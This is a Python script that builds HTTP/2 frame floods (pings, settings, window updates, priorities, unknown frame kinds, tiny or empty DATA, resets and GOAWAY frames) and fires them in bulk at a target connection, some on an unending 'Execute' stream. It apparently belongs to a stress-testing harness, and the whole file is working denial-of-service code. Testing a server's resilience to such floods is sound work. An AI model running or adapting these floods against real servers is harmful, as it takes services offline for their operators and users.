"""Frames that carry little or nothing, as fast as they leave: pings, settings, window updates, priorities, empty and
one-byte DATA, unknown kinds; answers to them are not read.
"""

import struct

import http2
from attack import Attack, Target, one_after_the_other, run
from http2 import frame

GROUP = 500


def repeat(one: bytes, reads: bool = False):
    content = one * GROUP

    def attack(target: Target) -> None:
        connection = target.connect(reads=reads)
        for _ in range(100_000):
            connection.send(content)

    return attack


def on_a_stream(one: bytes):
    """Frames of stream 1, which is an Execute with a message that does not end."""
    content = one * GROUP

    def attack(target: Target) -> None:
        connection = target.connect()
        call = connection.begin("Execute")
        connection.write(call, struct.pack(">BI", 0, 15 << 20))
        data = len(one) - 9 if one[3] == http2.DATA else 0
        for _ in range((15 << 20) // max(data * GROUP, 1000)):
            connection.take_window(call, data * GROUP)
            connection.send(content)

    return attack


FLOODS = [
    repeat(frame(http2.PING, 0, 0, bytes(8))),
    repeat(frame(http2.SETTINGS, 0, 0)),
    repeat(http2.settings(initial_window_size=1) + http2.settings(initial_window_size=1 << 20)),
    repeat(frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    repeat(frame(http2.PRIORITY, 0, 1, bytes(5))),
    repeat(frame(99, 0, 1, b"x" * 10)),
    repeat(frame(http2.DATA, 0, 1, b"x")),
    repeat(frame(http2.RST_STREAM, 0, 1, struct.pack(">I", 8))),
    repeat(frame(http2.GOAWAY, 0, 0, bytes(8)), reads=True),
    on_a_stream(frame(http2.DATA, 0, 1)),
    on_a_stream(frame(http2.DATA, 0, 1, b"\0")),
    on_a_stream(frame(http2.DATA, 8, 1, b"\0")),
    on_a_stream(frame(http2.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
]

if __name__ == "__main__":
    run(Attack([one_after_the_other(*FLOODS[:7]), one_after_the_other(*FLOODS[7:])], spares=["backlog"]))
